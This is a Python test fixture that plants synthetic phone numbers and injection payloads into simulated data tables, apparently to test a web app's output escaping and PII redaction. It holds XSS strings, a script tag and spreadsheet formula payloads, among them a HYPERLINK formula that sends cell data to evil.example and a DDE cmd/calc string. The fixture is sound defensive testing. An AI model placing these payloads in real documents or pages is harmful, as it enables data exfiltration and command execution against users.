"""A small simulated world made hostile: phone numbers planted in every table and every text column,
and script and formula payloads in every text a person can type (names, titles, comments, queries).

Used by tests/web/test_hostile.py; the world is simulated (nobody here wrote its rows), then planted.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd

XSS = '<img src=x onerror="window.__xss=(window.__xss||0)+1">'
SCRIPT = "<script>window.__xss=(window.__xss||0)+1</script>"
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1")


@dataclass
class Planted:
    folder: Path
    phones: list[str] = field(default_factory=list)  # 11 digits each

    def forbidden(self) -> list[str]:
        """Every planted number, raw, and its unkeyed SHA-256 (enumerable: it must not appear either)."""
        return self.phones + [hashlib.sha256(p.encode()).hexdigest() for p in self.phones]


def _spell(digits: str, i: int) -> str:
    """The number as people write it: plain, with +86, with dashes or spaces."""
    return (digits, f"+86 {digits}", f"{digits[:3]}-{digits[3:7]}-{digits[7:]}", f"{digits[:3]} {digits[3:7]} {digits[7:]}")[i % 4]


def plant(folder: Path, seed: int = 7) -> Planted:
    """Rewrite the simulated input in ``folder`` in place; returns what was planted."""
    rng = np.random.default_rng(seed)
    planted = Planted(folder)
    counter = iter(range(10**6))

    def phone() -> str:
        k = next(counter)
        digits = f"1{3 + k % 7}{(k * 7919 + 12345678) % 10**9:09d}"
        planted.phones.append(digits)
        return digits

    def hostile(text: object, i: int) -> str:
        payload = (XSS, SCRIPT, *FORMULAS)[i % (2 + len(FORMULAS))]
        return f"{payload}{'' if text is None else text} 加V {_spell(phone(), i)}"

    t = {p.stem: pd.read_parquet(p) for p in folder.glob("*.parquet")}
    # User ids: a third of the panel keyed by phone (under the old 80% rule), spelled differently per table.
    users = t["users"]["user_id"].astype(str).tolist()
    chosen = rng.choice(len(users), size=len(users) // 3, replace=False)
    ids = {users[i]: phone() for i in chosen}
    for n, name in enumerate(("users", "exposures", "comments", "leads", "orders", "surveys")):
        if name in t and "user_id" in t[name]:
            t[name]["user_id"] = [(_spell(ids[u], n) if u in ids else u) for u in t[name]["user_id"].astype(str)]
    # Every comment of the planted attack burst, too: comments.user_id accepts no phone column.
    c = t["comments"]
    c["user_id"] = [ids.get(u, u) if isinstance(u, str) and u in ids else (phone() if i % 5 == 0 else u)
                    for i, u in enumerate(c["user_id"].astype(object))]
    # Free text, names and every other text column.
    for name, columns in {"notes": ("title", "body"), "creators": ("name", "category"), "comments": ("text",),
                          "orders": ("product",), "spend": ("campaign",)}.items():
        frame = t[name]
        for col in columns:
            if col in frame:
                frame[col] = [hostile(v, i // 3) if i % 3 == 0 else v for i, v in enumerate(frame[col])]  # every payload
    e = t["exposures"]
    search = e.index[e["action"] == "search"]
    e.loc[search[::4], "query"] = [hostile(v, i) for i, v in enumerate(e.loc[search[::4], "query"])]
    # A creator whose id is a phone, everywhere it appears.
    first = str(t["creators"]["creator_id"].iloc[0])
    creator_phone = phone()
    for name in ("creators", "notes", "spend"):
        if "creator_id" in t[name]:
            t[name]["creator_id"] = t[name]["creator_id"].astype(object).where(
                t[name]["creator_id"].astype(str) != first, creator_phone)
    # Extra columns: one whose first 300 rows are empty; one where a few values are numbers.
    o = t["orders"]
    o["buyer_note"] = [None if i < 300 else _spell(phone(), i) for i in range(len(o))]
    o["remark"] = [f"收件人电话{phone()}" if i % 10 == 0 else "无" for i in range(len(o))]
    t["users"]["wechat"] = [None if i % 7 else phone() for i in range(len(t["users"]))]
    t["surveys"]["contact"] = [np.int64(int(phone())) if i % 4 == 0 else np.int64(0) for i in range(len(t["surveys"]))]
    for name, frame in t.items():
        path = folder / f"{name}.parquet"
        if name == "comments":  # one table through the text path as well
            path.unlink()
            # CRLF rows, so a field holding a bare \r (the "\r=1+1" payload) is quoted as a spreadsheet would.
            frame.to_csv(folder / "comments.csv", index=False, lineterminator="\r\n")
        else:
            frame.to_parquet(path, index=False)
    return planted
